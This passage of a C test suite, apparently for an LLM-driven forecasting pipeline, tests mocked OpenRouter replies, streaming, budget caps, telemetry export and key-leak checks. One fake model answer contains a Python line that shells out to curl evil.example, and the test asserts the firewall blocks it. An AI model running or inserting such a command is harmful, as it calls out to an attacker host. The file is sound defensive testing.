      soup_message_headers_replace (soup_server_message_get_response_headers (msg), "Retry-After", "1");
      wf_mock_reply_json (msg, 429, "{\"error\":{\"code\":429,\"message\":\"Rate limit exceeded\"}}");
      return;
    }
  if (wants_stream (msg))
    {
      reply_stream (msg, content ? content : "");
      return;
    }
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "id");
  json_builder_add_string_value (b, "gen-test");
  json_builder_set_member_name (b, "model");
  json_builder_add_string_value (b, "openai/gpt-4o-mini");
  json_builder_set_member_name (b, "choices");
  json_builder_begin_array (b);
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "index");
  json_builder_add_int_value (b, 0);
  json_builder_set_member_name (b, "finish_reason");
  json_builder_add_string_value (b, "stop");
  json_builder_set_member_name (b, "message");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "role");
  json_builder_add_string_value (b, "assistant");
  json_builder_set_member_name (b, "content");
  json_builder_add_string_value (b, content ? content : "");
  json_builder_end_object (b);
  json_builder_end_object (b);
  json_builder_end_array (b);
  json_builder_set_member_name (b, "usage");
  json_builder_begin_object (b);
  json_builder_set_member_name (b, "prompt_tokens");
  json_builder_add_int_value (b, 1000);
  json_builder_set_member_name (b, "completion_tokens");
  json_builder_add_int_value (b, 200);
  json_builder_set_member_name (b, "total_tokens");
  json_builder_add_int_value (b, 1200);
  if (!remote.omit_cost)
    {
      json_builder_set_member_name (b, "cost");
      json_builder_add_double_value (b, 0.0012);
    }
  json_builder_end_object (b);
  json_builder_end_object (b);
  root = json_builder_get_root (b);
  body = json_to_string (root, FALSE);
  wf_mock_reply_json (msg, 200, body);
}

static const char good_code[] =
  "import whatif as wf\\nrate = wf.param('Rate', 6, kind='percent')\\n"
  "wf.metric('Yearly interest', 1000 * rate / 100, 'USD')\\n";

static char *
answer_json (const char *code)
{
  return g_strdup_printf ("{\"code\": \"%s\", \"explanation\": \"Interest on $1,000.\", \"language\": \"python\"}",
                          code);
}

static WfRun *
ask_remote (WfMockServer *server,
            const char   *question,
            const char   *first,
            ...)
{
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfLlmProvider) provider = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *url = g_strdup_printf ("%s/api/v1", wf_mock_server_get_url (server));
  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, question);
  const char *a;
  va_list ap;
  WfRun *run;

  provider = wf_pipeline_provider_new_with_url ("openrouter", url);
  wf_pipeline_add_provider (pipeline, provider);

  g_mutex_lock (&remote.lock);
  remote.hits = 0;
  g_queue_clear_full (&remote.answers, g_free);
  va_start (ap, first);
  for (a = first; a != NULL; a = va_arg (ap, const char *))
    g_queue_push_tail (&remote.answers, g_strdup (a));
  va_end (ap);
  g_mutex_unlock (&remote.lock);
  wf_mock_server_clear_requests (server);

  req->provider = g_strdup ("openrouter");
  req->model = g_strdup (remote.model ? remote.model : "openai/gpt-4o-mini");
  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (run->id, >, 0);
  return run;
}

static char *
request_body (WfMockServer *server,
              guint         index)
{
  g_autoptr(GPtrArray) requests = wf_mock_server_dup_requests (server);
  WfMockRequest *r;

  g_assert_cmpuint (requests->len, >, index);
  r = g_ptr_array_index (requests, index);
  return g_strndup (r->body ? (const char *) g_bytes_get_data (r->body, NULL) : "",
                    r->body ? g_bytes_get_size (r->body) : 0);
}

static void
test_remote (void)
{
  g_autoptr(WfMockServer) server = wf_mock_server_new ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  g_autofree char *good = answer_json (good_code);
  g_autofree char *fenced = g_strdup_printf ("Sure! Here it is:\n```json\n%s\n```\n", good);
  g_autofree char *blocked = answer_json ("import os\\nos.system('curl evil.example')\\n");
  g_autofree char *raises = answer_json ("import whatif as wf\\nraise ValueError('boom in the model code')\\n");
  g_autofree char *body = NULL;
  const char *question = "forecast the interest I earn on 1000 dollars deposited at 6% with my bank";
  WfBudgetLimits limits;
  WfSpendTotals totals = { 0 };
  WfRun *run;

  wf_mock_server_add_handler (server, "/api/v1/chat/completions", chat_handler, NULL, NULL);

  /* Good code: answered, the prompt sent is the versioned one, cost settled. */
  run = ask_remote (server, question, good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpfloat_with_epsilon (find_metric (run, "Yearly interest")->value, 60.0, 1e-9);
  g_assert_cmpuint (remote.hits, ==, 1);
  g_assert_cmpuint (run->fixes->len, ==, 0);
  g_assert_cmpint (run->total_micros, ==, 1200);
  body = request_body (server, 0);
  g_assert_nonnull (strstr (body, "prompt v" G_STRINGIFY (WF_PROMPT_VERSION)));
  g_assert_nonnull (strstr (body, "wf.param"));
  g_assert_nonnull (strstr (body, "1000 dollars"));
  g_assert_true (wf_store_ledger_totals (store, 0, G_MAXINT64, 0, g_get_real_time (), &totals, &error));
  g_assert_cmpint (totals.settled_micros, >=, 1200);
  g_assert_cmpint (totals.reserved_micros, ==, 0);
  wf_run_free (run);

  /* Fenced JSON: repaired locally, no second call. */
  run = ask_remote (server, question, fenced, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpuint (remote.hits, ==, 1);
  g_assert_cmpuint (run->fixes->len, >, 0);
  wf_run_free (run);

  /* Code the firewall blocks: never executed. */
  run = ask_remote (server, question, blocked, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_BLOCKED);
  g_assert_null (run->result);
  g_assert_nonnull (run->verdict_json);
  wf_run_free (run);

  /* Code that raises: one repair round with the error, then answered. */
  run = ask_remote (server, question, raises, good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpuint (remote.hits, ==, 2);
  g_clear_pointer (&body, g_free);
  body = request_body (server, 1);
  g_assert_nonnull (strstr (body, "boom in the model code"));
  g_assert_cmpint (run->total_micros, ==, 2400);
  wf_run_free (run);

  /* Code that keeps raising: the run stands as failed after one repair. */
  run = ask_remote (server, question, raises, raises, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_FAILED);
  g_assert_cmpuint (remote.hits, ==, 2);
  g_assert_nonnull (strstr (run->message, "boom"));
  wf_run_free (run);

  /* 429 then success: the HTTP layer retries. */
  run = ask_remote (server, question, "429", good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpuint (remote.hits, ==, 2);
  wf_run_free (run);

  /* Budget used up: refused before any call, the offline route offered. */
  g_assert_true (wf_store_get_budget_limits (store, &limits, &error));
  limits.monthly_micros = 1000;
  g_assert_true (wf_store_set_budget_limits (store, &limits, &error));
  run = ask_remote (server, question, good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_OVER_BUDGET);
  g_assert_cmpuint (remote.hits, ==, 0);
  g_assert_nonnull (strstr (run->message, "offline"));
  wf_run_free (run);
  limits.monthly_micros = -1;
  g_assert_true (wf_store_set_budget_limits (store, &limits, &error));
  g_assert_true (wf_store_check_integrity (store, &error));
}

typedef struct
{
  GMainLoop *loop;
  WfRun     *run;
  GError    *error;
  GString   *code;
  guint      n_deltas;
  guint      n_before_firewall;
  gboolean   firewall_started;
  gboolean   delta_after_finish;
} StreamData;

static void
stream_delta_cb (WfPipeline *pipeline,
                 const char *delta,
                 StreamData *data)
{
  if (data->run != NULL)
    data->delta_after_finish = TRUE;
  if (!data->firewall_started)
    data->n_before_firewall++;
  data->n_deltas++;
  g_string_append (data->code, delta);
}

static void
stream_started_cb (WfPipeline *pipeline,
                   const char *name,
                   StreamData *data)
{
  if (g_str_equal (name, "firewall"))
    data->firewall_started = TRUE;
}

static void
stream_done_cb (GObject      *source,
                GAsyncResult *result,
                gpointer      user_data)
{
  StreamData *data = user_data;

  data->run = wf_pipeline_run_finish (WF_PIPELINE (source), result, &data->error);
  g_main_loop_quit (data->loop);
}

/* Asked from a main loop, the model's answer streams (SSE) and the pipeline
 * shows the code as it is written: several code-delta events during generate,
 * which together are exactly the code that then runs. */
static void
test_stream_code (void)
{
  static const char code[] =
    "import whatif as wf\\n"
    "rate = wf.param('Rate', 6, kind='percent')  # \\\"quoted\\\" \\u00e9t\\u00e9 \\ud83d\\udcb0\\n"
    "wf.metric('Yearly interest', 1000 * rate / 100, 'USD')\\n";
  g_autoptr(WfMockServer) server = wf_mock_server_new ();
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfLlmProvider) provider = NULL;
  g_autofree char *url = g_strdup_printf ("%s/api/v1", wf_mock_server_get_url (server));
  g_autofree char *answer = answer_json (code);
  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, "forecast the interest I earn on 1000 dollars at 6% with my bank");
  StreamData data = { 0 };

  wf_mock_server_add_handler (server, "/api/v1/chat/completions", chat_handler, NULL, NULL);
  provider = wf_pipeline_provider_new_with_url ("openrouter", url);
  wf_pipeline_add_provider (pipeline, provider);
  g_mutex_lock (&remote.lock);
  g_queue_clear_full (&remote.answers, g_free);
  g_queue_push_tail (&remote.answers, g_strdup (answer));
  g_mutex_unlock (&remote.lock);

  data.loop = g_main_loop_new (NULL, FALSE);
  data.code = g_string_new (NULL);
  g_signal_connect (pipeline, "code-delta", G_CALLBACK (stream_delta_cb), &data);
  g_signal_connect (pipeline, "stage-started", G_CALLBACK (stream_started_cb), &data);
  req->provider = g_strdup ("openrouter");
  req->model = g_strdup ("openai/gpt-4o-mini");
  wf_pipeline_run_async (pipeline, req, NULL, stream_done_cb, &data);
  g_main_loop_run (data.loop);
  while (g_main_context_iteration (NULL, FALSE))
    ;
  g_signal_handlers_disconnect_by_data (pipeline, &data);

  g_assert_no_error (data.error);
  g_assert_cmpint (data.run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpfloat_with_epsilon (find_metric (data.run, "Yearly interest")->value, 60.0, 1e-9);
  g_assert_cmpuint (data.n_deltas, >=, 5);
  g_assert_cmpuint (data.n_before_firewall, ==, data.n_deltas);
  g_assert_false (data.delta_after_finish);
  g_assert_cmpstr (data.code->str, ==, data.run->code);
  g_assert_nonnull (strstr (data.run->code, "\"quoted\" \u00e9t\u00e9 \U0001F4B0\n"));
  /* Streaming kept the usage and cost of the final chunk. */
  g_assert_cmpint (data.run->total_micros, ==, 1200);

  g_main_loop_unref (data.loop);
  g_string_free (data.code, TRUE);
  wf_run_free (data.run);
}



/* The budget prices the chosen model from the catalogue: its estimate lets a
 * cheap model through a per-run cap that an unknown (conservatively priced)
 * one does not pass, and usage without a reported cost is settled at the
 * catalogue's prices, not flagged as estimated. */
static void
test_budget_catalogue_prices (void)
{
  g_autoptr(WfMockServer) server = wf_mock_server_new ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  g_autofree char *good = answer_json (good_code);
  const char *question = "forecast the interest I earn on 1000 dollars deposited at 6% with my bank";
  WfBudgetLimits limits, saved;
  WfRun *run;
  /* openai/gpt-4o-mini in the built-in catalogue: $0.15 and $0.60 per million
   * tokens; the mock reports 1000 input and 200 output tokens. */
  gint64 expected = (1000 * 150000 + 999999) / 1000000 + (200 * 600000 + 999999) / 1000000;

  wf_mock_server_add_handler (server, "/api/v1/chat/completions", chat_handler, NULL, NULL);
  g_mutex_lock (&remote.lock);
  remote.omit_cost = TRUE;
  g_mutex_unlock (&remote.lock);

  run = ask_remote (server, question, good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpint (run->total_micros, ==, expected);
  g_assert_false (run->cost_estimated);
  wf_run_free (run);

  /* A model the catalogue does not know: the estimate stands, flagged. */
  remote.model = "acme/unpriced-model";
  run = ask_remote (server, question, good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_true (run->cost_estimated);
  g_assert_cmpint (run->total_micros, >=, 2000 * WF_BUDGET_UNKNOWN_OUTPUT_MICROS_PER_MTOK / 1000000);
  wf_run_free (run);

  /* A per-run cap of one cent: the priced model's estimate fits, the
   * unknown model's does not, and is refused before any call. */
  g_assert_true (wf_store_get_budget_limits (store, &limits, &error));
  saved = limits;
  limits.run_micros = 10000;
  g_assert_true (wf_store_set_budget_limits (store, &limits, &error));
  run = ask_remote (server, question, good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_OVER_BUDGET);
  g_assert_cmpuint (remote.hits, ==, 0);
  wf_run_free (run);
  remote.model = NULL;
  run = ask_remote (server, question, good, NULL);
  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
  g_assert_cmpuint (remote.hits, ==, 1);
  wf_run_free (run);

  g_assert_true (wf_store_set_budget_limits (store, &saved, &error));
  g_mutex_lock (&remote.lock);
  remote.omit_cost = FALSE;
  g_mutex_unlock (&remote.lock);
}

/* The sweep job straight at the sandbox, with what a hostile caller could
 * send: no policy, a malformed grid, too many points. Refused or an error,
 * never run unchecked; a well-formed one gives one row per point. */
static void
test_sweep_job_hostile (void)
{
  const char *code = "import whatif as wf\nx = wf.param('x', 1)\nwf.metric('y', x * 2)\n";
  const char *specs[] = {
    "{\"labels\": [\"x\"], \"metrics\": [\"y\"], \"points\": [[1], [2, 3]]}",
    "{\"labels\": [], \"metrics\": [\"y\"], \"points\": [[1]]}",
    "{\"labels\": [\"x\"], \"metrics\": [], \"points\": [[1]]}",
    "\"not an object\"",
    "{\"labels\": [\"x\"], \"metrics\": [\"y\"], \"points\": [[\"1\"]]}",
  };
  g_autoptr(GError) error = NULL;
  g_autoptr(WfSandbox) sandbox = wf_sandbox_get_default (NULL, &error);
  g_autoptr(GString) many = g_string_new ("{\"labels\": [\"x\"], \"metrics\": [\"y\"], \"points\": [");
  guint i;

  g_assert_no_error (error);
  for (i = 0; i < 401; i++)
    g_string_append_printf (many, "%s[%u]", i ? "," : "", i);
  g_string_append (many, "]}");

  {
    g_autoptr(WfJob) job = wf_job_new (WF_JOB_SWEEP, "python", code);
    g_autoptr(WfRunResult) r = NULL;

    job->policy = FALSE;
    job->sweep_json = g_strdup (specs[0]);
    r = wf_sandbox_run (sandbox, job, NULL, NULL, NULL, &error);
    g_assert_no_error (error);
    g_assert_cmpint (r->status, ==, WF_RUN_STATUS_REFUSED);
    g_assert_cmpuint (r->tables->len, ==, 0);
  }
  for (i = 0; i <= G_N_ELEMENTS (specs); i++)
    {
      g_autoptr(WfJob) job = wf_job_new (WF_JOB_SWEEP, "python", code);
      g_autoptr(WfRunResult) r = NULL;

      job->sweep_json = g_strdup (i < G_N_ELEMENTS (specs) ? specs[i] : many->str);
      r = wf_sandbox_run (sandbox, job, NULL, NULL, NULL, &error);
      g_assert_no_error (error);
      g_assert_cmpint (r->status, !=, WF_RUN_STATUS_OK);
      g_assert_cmpuint (r->tables->len, ==, 0);
    }
  {
    g_autoptr(WfJob) job = wf_job_new (WF_JOB_SWEEP, "python", code);
    g_autoptr(WfRunResult) r = NULL;
    const WfTable *t;

    job->sweep_json = g_strdup ("{\"labels\": [\"x\"], \"metrics\": [\"y\"], \"points\": [[1], [2.5], [-4]]}");
    r = wf_sandbox_run (sandbox, job, NULL, NULL, NULL, &error);
    g_assert_no_error (error);
    g_assert_cmpint (r->status, ==, WF_RUN_STATUS_OK);
    g_assert_nonnull (r->verdict_json);
    g_assert_cmpuint (r->tables->len, ==, 1);
    t = g_ptr_array_index (r->tables, 0);
    g_assert_cmpstr (t->name, ==, "sweep");
    g_assert_cmpuint (wf_table_get_n_rows (t), ==, 3);
    g_assert_cmpfloat (json_array_get_double_element (json_array_get_array_element (t->rows, 1), 1), ==, 5.0);
    g_assert_cmpfloat (json_array_get_double_element (json_array_get_array_element (t->rows, 2), 1), ==, -8.0);
    /* Points report into the table only: no per-point metrics or params. */
    g_assert_cmpuint (r->metrics->len, ==, 0);
  }
}

/* ---- telemetry export and secrets ---- */

static void
traces_handler (SoupServer        *server,
                SoupServerMessage *msg,
                const char        *path,
                GHashTable        *query,
                gpointer           user_data)
{
  wf_mock_reply_json (msg, 200, "{}");
}

static GPtrArray *
trace_stages (GBytes     *body,
              char      **out_trace_id)
{
  g_autoptr(JsonParser) parser = json_parser_new ();
  GPtrArray *stages = g_ptr_array_new_with_free_func (g_free);
  JsonArray *resource, *scope, *spans;
  guint i, j;

  g_assert_true (json_parser_load_from_data (parser, g_bytes_get_data (body, NULL), g_bytes_get_size (body), NULL));
  resource = json_object_get_array_member (json_node_get_object (json_parser_get_root (parser)), "resourceSpans");
  g_assert_cmpuint (json_array_get_length (resource), ==, 1);
  scope = json_object_get_array_member (json_array_get_object_element (resource, 0), "scopeSpans");
  spans = json_object_get_array_member (json_array_get_object_element (scope, 0), "spans");
  *out_trace_id = NULL;
  for (i = 0; i < json_array_get_length (spans); i++)
    {
      JsonObject *span = json_array_get_object_element (spans, i);
      JsonArray *attrs = json_object_get_array_member (span, "attributes");
      const char *trace = json_object_get_string_member (span, "traceId");

      /* One trace: every span carries the same trace id. */
      if (*out_trace_id == NULL)
        *out_trace_id = g_strdup (trace);
      g_assert_cmpstr (trace, ==, *out_trace_id);
      for (j = 0; j < json_array_get_length (attrs); j++)
        {
          JsonObject *attr = json_array_get_object_element (attrs, j);

          if (g_str_equal (json_object_get_string_member (attr, "key"), "whatif.stage"))
            g_ptr_array_add (stages, g_strdup (json_object_get_string_member (
              json_object_get_object_member (attr, "value"), "stringValue")));
        }
    }
  return stages;
}

/* Export on: each run's trace reaches the collector, one trace per run with a
 * span per stage, and the outbox is empty again. Export off (the default):
 * nothing is queued, nothing is sent. */
static void
test_telemetry_export (void)
{
  g_autoptr(WfMockServer) collector = wf_mock_server_new ();
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfStore) store = open_store ();
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) requests = NULL;
  g_autofree char *first_trace = NULL;
  const char *telemetry_questions[] = {
    "can I afford a 40k van loan at 7.5% over 5 years?",
    "breakeven point with $25,000 fixed costs, unit price 120 and variable cost 70",
  };
  WfRun *runs[2];
  guint i, j;

  wf_mock_server_add_handler (collector, "/v1/traces", traces_handler, NULL, NULL);

  /* Off: nothing queued, nothing sent. */
  {
    g_autoptr(WfRun) off = ask (pipeline, telemetry_questions[0], 0);

    g_assert_cmpint (off->outcome, ==, WF_OUTCOME_ANSWERED);
    g_assert_true (has_stage (off, "telemetry"));
    g_assert_cmpint (wf_store_outbox_count (store, &error), ==, 0);
    g_assert_cmpuint (wf_mock_server_count_requests (collector), ==, 0);
  }

  g_assert_false (wf_pipeline_set_telemetry (pipeline, "ftp://example.com", NULL, &error));
  g_assert_error (error, WF_PIPELINE_ERROR, WF_PIPELINE_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_true (wf_pipeline_set_telemetry (pipeline, wf_mock_server_get_url (collector),
                                            "x-tenant=test-tenant", &error));
  g_assert_no_error (error);
  for (i = 0; i < G_N_ELEMENTS (runs); i++)
    {
      runs[i] = ask (pipeline, telemetry_questions[i], 0);
      g_assert_cmpint (runs[i]->outcome, ==, WF_OUTCOME_ANSWERED);
    }
  g_assert_cmpint (wf_store_outbox_count (store, &error), ==, 0);
  requests = wf_mock_server_dup_requests (collector);
  g_assert_cmpuint (requests->len, ==, G_N_ELEMENTS (runs));
  for (i = 0; i < requests->len; i++)
    {
      WfMockRequest *r = g_ptr_array_index (requests, i);
      g_autofree char *trace_id = NULL;
      g_autoptr(GPtrArray) stages = trace_stages (r->body, &trace_id);

      g_assert_cmpstr (r->path, ==, "/v1/traces");
      g_assert_cmpstr (soup_message_headers_get_one (r->headers, "x-tenant"), ==, "test-tenant");
      /* A span per stage of the run, in order (the root span has no stage). */
      g_assert_cmpuint (stages->len, ==, runs[i]->spans->len);
      for (j = 0; j < stages->len; j++)
        g_assert_cmpstr (g_ptr_array_index (stages, j), ==,
                         ((WfCostSpan *) g_ptr_array_index (runs[i]->spans, j))->stage);
      if (first_trace == NULL)
        first_trace = g_steal_pointer (&trace_id);
      else
        g_assert_cmpstr (trace_id, !=, first_trace);
    }
  for (i = 0; i < G_N_ELEMENTS (runs); i++)
    wf_run_free (runs[i]);

  /* Off again. */
  g_assert_true (wf_pipeline_set_telemetry (pipeline, NULL, NULL, &error));
  wf_mock_server_clear_requests (collector);
  {
    g_autoptr(WfRun) off = ask (pipeline, telemetry_questions[1], 0);

    g_assert_cmpint (off->outcome, ==, WF_OUTCOME_ANSWERED);
  }
  g_assert_cmpuint (wf_mock_server_count_requests (collector), ==, 0);
  g_assert_cmpint (wf_store_outbox_count (store, &error), ==, 0);
}

/* Every log message of the process, whatever its level, for the leak test. */
static GMutex log_lock;
static GString *captured_logs;

static GLogWriterOutput
capture_writer (GLogLevelFlags   level,
                const GLogField *fields,
                gsize            n_fields,
                gpointer         user_data)
{
  gsize i;

  g_mutex_lock (&log_lock);
  if (captured_logs == NULL)
    captured_logs = g_string_new (NULL);
  for (i = 0; i < n_fields; i++)
    if (fields[i].length < 0)
      g_string_append_printf (captured_logs, "%s=%s\n", fields[i].key, (const char *) fields[i].value);
    else
      {
        g_string_append_printf (captured_logs, "%s=", fields[i].key);
        g_string_append_len (captured_logs, fields[i].value, fields[i].length);
        g_string_append_c (captured_logs, '\n');
      }
  g_mutex_unlock (&log_lock);
  /* Debug lines are captured (they are what the leak test reads), not
   * printed: GLib prints them on stdout, which is the TAP stream. */
  if (level & (G_LOG_LEVEL_DEBUG | G_LOG_LEVEL_INFO))
    return G_LOG_WRITER_HANDLED;
  return g_log_writer_default (level, fields, n_fields, user_data);
}

static gboolean
file_contains (const char *path,
               const char *needle)
{
  g_autofree char *data = NULL;
  gsize len = 0, n = strlen (needle), i;

  if (!g_file_get_contents (path, &data, &len, NULL))
    return FALSE;   /* a file that is not there holds nothing */
  for (i = 0; i + n <= len; i++)
    if (data[i] == needle[0] && memcmp (data + i, needle, n) == 0)
      return TRUE;
  return FALSE;
}

/* A full remote run (with a repair round and telemetry export) with a known
 * fake key: the key reaches the model server and nothing else. Neither the
 * database, its WAL, nor any log line holds the key or the collector's
 * credential. */
static void
test_no_key_leak (void)
{
  g_autoptr(WfMockServer) server = wf_mock_server_new ();
  g_autoptr(WfPipeline) pipeline = new_pipeline ();
  g_autoptr(WfLlmProvider) provider = NULL;
  g_autoptr(GPtrArray) requests = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *url = g_strdup_printf ("%s/api/v1", wf_mock_server_get_url (server));
  g_autofree char *good = answer_json (good_code);
  g_autofree char *raises = answer_json ("import whatif as wf\\nraise ValueError('boom')\\n");
  g_autofree char *wal = g_strconcat (db_path, "-wal", NULL);
  g_autofree char *shm = g_strconcat (db_path, "-shm", NULL);
  const char *paths[] = { db_path, wal, shm };
  guint i, n_auth = 0, n_traces = 0;

  wf_mock_server_add_handler (server, "/api/v1/chat/completions", chat_handler, NULL, NULL);
  wf_mock_server_add_handler (server, "/v1/traces", traces_handler, NULL, NULL);
  provider = wf_pipeline_provider_new_with_url ("openrouter", url);
  wf_pipeline_add_provider (pipeline, provider);
  g_assert_true (wf_pipeline_set_telemetry (pipeline, wf_mock_server_get_url (server),
                                            "Authorization=Basic " FAKE_TELEMETRY_SECRET, &error));
  g_assert_no_error (error);

  g_mutex_lock (&remote.lock);
  g_queue_clear_full (&remote.answers, g_free);
  g_queue_push_tail (&remote.answers, g_strdup (good));
  g_queue_push_tail (&remote.answers, g_strdup (raises));
  g_queue_push_tail (&remote.answers, g_strdup (good));
  g_mutex_unlock (&remote.lock);
  for (i = 0; i < 2; i++)
    {
      g_autoptr(WfRun) run = NULL;
      WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, "forecast the interest I earn on 1000 dollars at 6% with my bank");

      req->provider = g_strdup ("openrouter");
      req->model = g_strdup ("openai/gpt-4o-mini");
      run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
      g_assert_no_error (error);
      g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
    }

  /* Control: the key and the credential did go where they belong. */
  requests = wf_mock_server_dup_requests (server);
  for (i = 0; i < requests->len; i++)
    {
      WfMockRequest *r = g_ptr_array_index (requests, i);
      const char *auth = soup_message_headers_get_one (r->headers, "Authorization");

      if (g_str_has_suffix (r->path, "/chat/completions"))
        n_auth += g_strcmp0 (auth, "Bearer " FAKE_KEY) == 0;
      else if (g_str_equal (r->path, "/v1/traces"))
        n_traces += g_strcmp0 (auth, "Basic " FAKE_TELEMETRY_SECRET) == 0;
    }
  g_assert_cmpuint (n_auth, ==, 3);
  g_assert_cmpuint (n_traces, ==, 2);

  for (i = 0; i < G_N_ELEMENTS (paths); i++)
    {
      g_test_message ("checking %s", paths[i]);
      g_assert_false (file_contains (paths[i], FAKE_KEY));
      g_assert_false (file_contains (paths[i], "leakcheck"));
      g_assert_false (file_contains (paths[i], FAKE_TELEMETRY_SECRET));
    }
  /* The WAL is there (the pipeline keeps its connections) and was written. */
  g_assert_true (g_file_test (wal, G_FILE_TEST_EXISTS));
  g_assert_true (file_contains (db_path, "1000 dollars") || file_contains (wal, "1000 dollars"));

  g_mutex_lock (&log_lock);
  g_assert_nonnull (captured_logs);
  g_assert_nonnull (strstr (captured_logs->str, "telemetry: "));   /* capture works */
  g_assert_null (strstr (captured_logs->str, FAKE_KEY));
  g_assert_null (strstr (captured_logs->str, "leakcheck"));
  g_assert_null (strstr (captured_logs->str, FAKE_TELEMETRY_SECRET));
  g_mutex_unlock (&log_lock);
}

/* "auto" is openrouter once its key is set, else offline; names pass through.
 * Runs first, before any thread exists, as it changes the environment. */
static void
test_auto_provider (void)
{
  g_autofree char *with_key = wf_pipeline_resolve_provider ("auto");
  g_autofree char *unset = wf_pipeline_resolve_provider (NULL);
  g_autofree char *named = wf_pipeline_resolve_provider ("cohere");
  g_autofree char *offline = wf_pipeline_resolve_provider ("offline");
  g_autofree char *without_key = NULL;
  g_autofree char *keyring = NULL;
  g_autofree char *saved = g_strdup (g_getenv ("OPENROUTER_API_KEY"));

  g_assert_cmpstr (with_key, ==, "openrouter");
  g_assert_cmpstr (unset, ==, "openrouter");
  g_assert_cmpstr (named, ==, "cohere");
  g_assert_cmpstr (offline, ==, "offline");

  g_unsetenv ("OPENROUTER_API_KEY");
  without_key = wf_pipeline_resolve_provider ("auto");
  /* The keyring of the test session may hold a key; without one it is offline. */
  keyring = wf_secrets_lookup_sync (WF_SECRET_OPENROUTER, NULL, NULL);
  g_assert_cmpstr (without_key, ==, keyring != NULL ? "openrouter" : "offline");
  wf_secrets_value_free (g_steal_pointer (&keyring));
  g_setenv ("OPENROUTER_API_KEY", saved, TRUE);
}

int
main (int argc, char **argv)
{
  g_autofree char *dir = NULL;
  int ret;

  /* Before any thread exists: setenv is not thread-safe. */
  g_setenv ("OPENROUTER_API_KEY", FAKE_KEY, TRUE);
  if (g_getenv ("G_MESSAGES_DEBUG") == NULL)
    g_setenv ("G_MESSAGES_DEBUG", "all", TRUE);
  g_setenv ("WHATIF_HTTP_TEST_SPEEDUP", "20", TRUE);
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
  g_log_set_writer_func (capture_writer, NULL, NULL);
  dir = g_dir_make_tmp ("test-pipeline-XXXXXX", NULL);
  db_path = g_build_filename (dir, "whatif.db", NULL);

  g_test_add_func ("/pipeline/auto-provider", test_auto_provider);
  g_test_add_func ("/pipeline/offline-questions", test_offline_questions);
  g_test_add_func ("/pipeline/van-loan", test_van_loan);
  g_test_add_func ("/pipeline/clarify-refuse", test_clarify_refuse);
  g_test_add_func ("/pipeline/needs-provider", test_needs_provider);
  g_test_add_func ("/pipeline/follow-up", test_follow_up);
  g_test_add_func ("/pipeline/currency", test_currency);
  g_test_add_func ("/pipeline/rerun", test_rerun);
  g_test_add_func ("/pipeline/sweep", test_sweep);
  g_test_add_func ("/pipeline/async-progress", test_async_progress);
  g_test_add_func ("/pipeline/cancel", test_cancel);
  g_test_add_func ("/pipeline/paste-python", test_paste_python);
  g_test_add_func ("/pipeline/verdict-with-run", test_verdict_with_run);
  g_test_add_func ("/pipeline/sweep-grid", test_sweep_grid);
  g_test_add_func ("/pipeline/sweep-job-hostile", test_sweep_job_hostile);
  g_test_add_func ("/pipeline/remote", test_remote);
  g_test_add_func ("/pipeline/stream-code", test_stream_code);
  g_test_add_func ("/pipeline/telemetry-export", test_telemetry_export);
  g_test_add_func ("/pipeline/budget-catalogue-prices", test_budget_catalogue_prices);
  g_test_add_func ("/pipeline/no-key-leak", test_no_key_leak);
  g_mutex_init (&remote.lock);
  g_queue_init (&remote.answers);
  ret = g_test_run ();
  g_free (db_path);
  return ret;
}
